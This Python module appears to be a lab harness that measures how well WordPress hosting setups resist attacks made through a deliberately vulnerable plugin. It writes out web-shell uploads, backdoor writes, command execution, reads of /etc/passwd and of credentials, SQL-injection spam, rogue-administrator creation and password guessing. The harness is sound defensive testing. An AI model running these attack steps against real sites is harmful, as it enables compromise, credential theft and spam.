"""What makes a link farm of a WordPress with a plugin like those that are found each week, tried from outside.

Each attack says `works` or `refused`, judged by what it changed or gave away, not by what an answer claims.
"""

from __future__ import annotations

import re
import tempfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from boxes import Operator

SHELL = "<?php echo 6 * 7, ' ', get_current_user();"
RUNS = "42"
SPAM = "cheap-pills.invalid"
WORKS, REFUSED = "works", "refused"
# An address of the world that takes connections: the lab's name server.
OUTSIDE = ("198.51.100.53", "53")


@dataclass(frozen=True)
class Target:
    """One site: where it is, where its things lie, and how its administrator is asked what became of it."""

    operator: Operator
    url: str
    box: str
    code: str
    uploads: str
    neighbour: str
    database: str
    runs: bool = True
    """Whether visitors meet any program at all."""

    def ask(self, path: str = "/", *options: str) -> tuple[int, str]:
        ran = self.operator.outside(
            "curl", "-sS", "--max-time", "60", "-w", "\n%{http_code}", *options, self.url + path
        )
        body, _, status = ran.stdout.rpartition("\n")
        return int(status or 0), body

    def attack(self, what: str, *options: str, **fields: str) -> str:
        """Use one hole of the plugin; return what it says."""
        form = [word for name, value in fields.items() for word in ("--form-string", f"{name}={value}")]
        return self.ask("/", "--form-string", f"attack={what}", *form, *options)[1]

    def upload(self, name: str, content: str) -> str:
        with tempfile.NamedTemporaryFile("w") as file:
            file.write(content)
            file.flush()
            Path(file.name).chmod(0o644)
            return self.attack("upload", "-F", f"file=@{file.name}", name=name)

    def sql(self, statement: str) -> str:
        return self.operator.root(f'mariadb -N {self.database} -e "{statement}"', self.box).strip()

    def lies(self, path: str) -> bool:
        return self.operator.root(f"[ -e {path} ] && echo yes || true", self.box).strip() == "yes"


def _said(is_so: object) -> str:
    return WORKS if is_so else REFUSED


def upload_shell(target: Target) -> str:
    """upload a program among the pictures"""
    target.upload("shell.php", SHELL)
    return _said(target.lies(f"{target.uploads}/shell.php"))


def run_shell(target: Target) -> str:
    """run it there: as `.php`, `.PHP`, `.phtml`, `.jpg/x.php`"""
    for name in ("shell.php", "shell.PHP", "shell.phtml", "shell.jpg"):
        # By whoever owns them, so that the question is what becomes of them, and not how they got there.
        target.operator.root(
            f"printf '%s' \"{SHELL}\" >{target.uploads}/{name}; chmod 644 {target.uploads}/{name}", target.box
        )
    tried = ("shell.php", "shell.PHP", "shell.phtml", "shell.jpg/x.php", "shell.jpg%00.php", "shell.jpg")
    ran = [name for name in tried if target.ask(f"/wp-content/uploads/{name}")[1].startswith(RUNS)]
    return _said(ran)


def spam_page(target: Target) -> str:
    """show a page of spam from among the pictures"""
    page = f"<a href=https://{SPAM}>pills</a>"
    target.operator.root(f"echo '{page}' >{target.uploads}/pills.html", target.box)
    return _said(SPAM in target.ask("/wp-content/uploads/pills.html")[1])


def backdoor(target: Target) -> str:
    """write a backdoor into the code"""
    target.attack("write", path=f"{target.code}/back.php", content=SHELL)
    target.attack("write", path=f"{target.code}/index.php", content="\n// back")
    return _said(
        target.lies(f"{target.code}/back.php")
        or "// back" in target.operator.root(f"cat {target.code}/index.php", target.box)
    )


def command(target: Target) -> str:
    """run a program of the server from code that was slipped in"""
    tries = (
        "system('id');",
        "echo shell_exec('id');",
        "echo fgets(popen('id', 'r'));",
        "pcntl_exec('/usr/bin/id');",
        "echo stream_get_contents(proc_open(['/usr/bin/id'], [1 => ['pipe', 'w']], $pipes) ? $pipes[1] : null);",
    )
    return _said(any("uid=" in target.attack("eval", code=code) for code in tries))


def neighbour(target: Target) -> str:
    """read the configuration of the site beside it, and the list of accounts"""
    found = [target.attack("read", path=path) for path in (target.neighbour, "/etc/passwd", "/proc/self/environ")]
    return _said(any(each.startswith("DONE") and len(each) > len("DONE\n") for each in found))


def connect_out(target: Target) -> str:
    """connect to the world"""
    host, port = OUTSIDE
    return _said(target.attack("connect", host=host, port=port).startswith("DONE"))


def connect_inside(target: Target) -> str:
    """connect to what listens on the server itself"""
    return _said(target.attack("connect", host="127.0.0.1", port="22").startswith("DONE"))


def database_password(target: Target) -> str:
    """take the database's password away"""
    said = target.attack("eval", code="echo 'password=', DB_PASSWORD, ';';")
    return _said("password=" in said and "password=;" not in said)


def include_picture(target: Target) -> str:
    """upload code as a picture and include it"""
    target.upload("picture.jpg", SHELL)
    return _said(RUNS in target.attack("include", path=f"{target.uploads}/picture.jpg"))


def guess_passwords(target: Target) -> str:
    """guess passwords: 20 times in a row"""
    answers = Counter(
        target.ask("/wp-login.php", "-o", "/dev/null", "-d", f"log=rosa&pwd=guess{number}")[0] for number in range(20)
    )
    return _said(answers[200] == 20)


def xmlrpc(target: Target) -> str:
    """guess hundreds of passwords in one request (XML-RPC)"""
    call = "<methodCall><methodName>system.listMethods</methodName></methodCall>"
    return _said("wp.getUsersBlogs" in target.ask("/xmlrpc.php", "-d", call)[1])


def list_users(target: Target) -> str:
    """learn who may log in"""
    routes = ("/?rest_route=/wp/v2/users", "/wp-json/wp/v2/users", "/?author=1")
    told = [target.ask(route, "-i")[1] for route in routes]
    return _said(any(re.search('(?im)"slug":"rosa"|^location: .*/author/rosa', each) for each in told))


def spam_post(target: Target) -> str:
    """put a link into a post by SQL injection"""
    link = f"<a href=//{SPAM}>pills</a>"
    target.attack("sql", statement=f"UPDATE wp_posts SET post_content = '{link}' WHERE ID = 1")
    return _said(SPAM in target.sql("SELECT post_content FROM wp_posts WHERE ID = 1"))


def change_option(target: Target) -> str:
    """let everybody register as an administrator (an option)"""
    target.attack("option", name="default_role", value="administrator")
    return _said(
        target.sql("SELECT option_value FROM wp_options WHERE option_name = 'default_role'") == "administrator"
    )


def make_administrator(target: Target) -> str:
    """make an administrator of one's own"""
    target.attack("administrator")
    return _said(target.sql("SELECT count(*) FROM wp_users WHERE user_login = 'rogue'") != "0")


ATTACKS: tuple[Callable[[Target], str], ...] = (
    upload_shell,
    run_shell,
    spam_page,
    backdoor,
    include_picture,
    command,
    neighbour,
    connect_out,
    connect_inside,
    database_password,
    spam_post,
    change_option,
    make_administrator,
    list_users,
    xmlrpc,
    guess_passwords,
)


def outcomes(target: Target) -> dict[str, str]:
    """Try everything; where a program runs, the plugin has to be there, or nothing would be proven."""
    assert (target.attack("eval", code="echo 'alive';") == "alive") == target.runs, target.url
    return {(attack.__doc__ or "").strip(): attack(target) for attack in ATTACKS}


def table(columns: dict[str, dict[str, str]]) -> str:
    """Return the outcomes side by side, as Markdown."""
    return "\n".join(_lines(columns)) + "\n"


def _lines(columns: dict[str, dict[str, str]]) -> Iterator[str]:
    yield f"| attack | {' | '.join(columns)} |"
    yield f"|---|{'---|' * len(columns)}"
    for attack in next(iter(columns.values())):
        found = (outcome[attack] for outcome in columns.values())
        yield f"| {attack} | {' | '.join(f'**{each}**' if each == WORKS else each for each in found)} |"


__all__ = ["ATTACKS", "REFUSED", "WORKS", "Target", "outcomes", "table"]
